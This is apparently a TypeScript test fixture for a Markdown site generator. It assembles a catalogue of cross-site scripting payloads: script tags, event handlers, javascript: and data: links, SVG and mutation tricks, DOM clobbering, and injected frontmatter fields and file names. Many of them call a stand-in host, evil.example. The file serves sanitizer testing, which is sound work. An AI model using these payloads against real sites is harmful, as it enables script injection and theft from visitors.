import type { Files } from '../support/folder.ts';

/** What a case calls when it gets to run: the page's title is changed, a request is made. */
const strike = "document.title='pwned';fetch('https://evil.example/x')";

const payloads: readonly (readonly [name: string, markdown: string])[] = [
  ['script element', `<script>${strike}</script>`],
  ['script element in upper case with attributes', `<SCRIPT type="text/javascript" defer>${strike}</SCRIPT>`],
  ['script with a source', '<script src="https://evil.example/x.js"></script>'],
  ['script split over lines', `<scr\nipt>${strike}</scr\nipt>`],
  ['script nested in itself', `<scr<script>ipt>${strike}</scr</script>ipt>`],
  ['script that closes a comment', `<!--><script>${strike}</script>-->`],
  ['script in a conditional comment', `<!--[if IE]><script>${strike}</script><![endif]-->`],
  ['script in CDATA', `<![CDATA[<script>${strike}</script>]]>`],
  ['image that fails to load', `<img src=x onerror="${strike}">`],
  ['image with quotes in its alt text', `![" onerror="${strike}](x.png)`],
  ['image with quotes in its title', `![a](x.png "\\" onerror=\\"${strike}")`],
  ['event handler on a heading', `<h2 onmouseover="${strike}" onclick="${strike}">x</h2>`],
  ['event handler on details', `<details open ontoggle="${strike}"><summary>x</summary></details>`],
  ['event handler with a slash for a space', `<img/src=x/onerror=${strike.split(';')[0]}>`],
  ['autofocus', `<input autofocus onfocus="${strike}">`],
  ['body and html elements', `<body onload="${strike}"><html onload="${strike}">`],
  ['javascript link in Markdown', `[x](javascript:${encodeURI(strike)})`],
  ['javascript link with a tab', `[x](java\tscript:alert(1)) <a href="java&#9;script:${strike}">y</a>`],
  [
    'javascript link in entities',
    `<a href="&#106;&#97;vascript:${strike}">x</a> [y](&#106;avascript:alert(1))`,
  ],
  ['javascript link in upper case', `<a href=" JaVaScRiPt:${strike}">x</a>`],
  ['javascript autolink', `<javascript:alert(1)> <vbscript:msgbox(1)>`],
  ['javascript reference link', `[x][r]\n\n[r]: javascript:${encodeURI(strike)}`],
  ['data link', `[x](data:text/html,<script>${encodeURIComponent(strike)}</script>)`],
  ['data image as a document', `![x](data:image/svg+xml,<svg/onload=${encodeURIComponent(strike)}>)`],
  [
    'frame',
    `<iframe src="javascript:${strike}"></iframe><iframe srcdoc="<script>${strike}</script>"></iframe>`,
  ],
  [
    'object, embed and applet',
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x"><applet code="x">',
  ],
  [
    'svg with a script',
    `<svg><script>${strike}</script><animate onbegin="${strike}" attributeName=x dur=1s></svg>`,
  ],
  ['svg that loads', `<svg onload="${strike}"><use href="https://evil.example/x#y"/></svg>`],
  ['math with a link', `<math><a xlink:href="javascript:${strike}">x</a></math>`],
  [
    'style element',
    "<style>*{background:url('https://evil.example/css')} @import 'https://evil.example/i.css';</style>",
  ],
  ['style attribute', '<p style="background:url(https://evil.example/s);position:fixed;inset:0">x</p>'],
  [
    'style link and base',
    '<link rel="stylesheet" href="https://evil.example/l.css"><base href="https://evil.example/">',
  ],
  ['refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/m">'],
  [
    'form with an action',
    `<form action="javascript:${strike}"><button formaction="javascript:${strike}">x</button></form>`,
  ],
  [
    'remote image in Markdown and HTML',
    '![x](https://evil.example/i.png) <img src="//evil.example/j.png" srcset="https://evil.example/k.png 2x">',
  ],
  [
    'video, audio and track',
    '<video src="https://evil.example/v" autoplay poster="https://evil.example/p"></video><audio src="https://evil.example/a" autoplay>',
  ],
  [
    'template and noscript',
    `<template><img src=x onerror="${strike}"></template><noscript><p title="</noscript><img src=x onerror=${strike.split(';')[0]}>"></noscript>`,
  ],
  [
    'mutation through a table',
    `<table><td><math><mtext><table><mglyph><style><img src=x onerror="${strike}">`,
  ],
  ['forged link slot', '<a href="oo-link:0">x</a> <img src="oo-link:0"> [y](oo-link:0)'],
  ['forged mark', '<a data-oo-mark="l0" href="javascript:alert(1)">x</a> <h1 data-oo-mark="n0">y</h1>'],
  ['id of the site', '<div id="oo-main">x</div> <a name="oo-main"></a>\n\n## oo-main'],
  ['clobbering of the document', '<img name="cookie"><form id="body"></form><a id="location" href="x">y</a>'],
  ['language of a code block', `\`\`\`"><img src=x onerror="${strike}">\nx\n\`\`\``],
  [
    'admonition title',
    `!!! note "<img src=x onerror='${strike}'>"\n    text\n\n> [!NOTE]\n> <img src=x onerror="${strike}">`,
  ],
  [
    'footnote with a hostile name',
    `x[^"><img src=x onerror="${strike}">]\n\n[^"><img src=x onerror="${strike}">]: y`,
  ],
  ['table cell', `| a |\n|---|\n| <img src=x onerror="${strike}"> \`<script>${strike}</script>\` |`],
];

const hostile = `"><img src=x onerror="${strike}"><script>${strike}</script>`;
const quoted = JSON.stringify(hostile);

/** Every payload in a page of its own, and every field that is shown anywhere filled with one. */
export const hostileSite: Files = {
  ...Object.fromEntries(
    payloads.map(([name, markdown], at) => [
      `pages/${at}.md`,
      `# ${name}\n\n${markdown}\n\n[next](${at + 1}.md)\n`,
    ]),
  ),
  'postmortems/fields.md': `---
title: ${quoted}
summary: ${quoted}
severity: ${quoted}
status: ${quoted}
owner: ${quoted}
authors: [${quoted}]
tags: [${quoted}, "javascript:alert(1)", "../../../etc"]
services: [${quoted}]
call_lead: ${quoted}
causes: [${quoted}]
aliases: [${quoted}, "javascript:alert(1)"]
actions: [{ change: ${quoted}, owner: ${quoted}, ticket: "javascript:alert(1)", due: ${quoted} }]
runbooks: [{ ref: ${quoted}, outcome: helped }]
no_change: { reason: ${quoted} }
---

## ${hostile}

- 12:00 ${hostile}

## Action items

- [ ] ${hostile}
`,
  'runbooks/fields.md': `---
title: ${quoted}
alerts: [${quoted}]
symptoms: [${quoted}]
params: { ${quoted}: ${quoted} }
verified: { by: ${quoted}, how: drill, date: 2026-01-01 }
---

1. ${hostile} {#x"onclick="alert(1)}
   - Expect: ${hostile}
`,
  'checklists/toml.md': `+++\ntitle = '''${hostile}'''\ntags = ['''${hostile}''']\n+++\n\n- [ ] ${hostile}\n`,
  '"><img src=x onerror=alert(1)>.md': '# File name\n\n[up](index.md)\n',
  "folder' onmouseover='alert(1)/<script>alert(1)<!script>.md": '# Folder name\n',
  'javascript:alert(1).md': '# Scheme\n',
  'index.md': '# Start\n\n[a](javascript:alert\\(1\\).md) [b](./javascript:alert%281%29.md)\n',
};
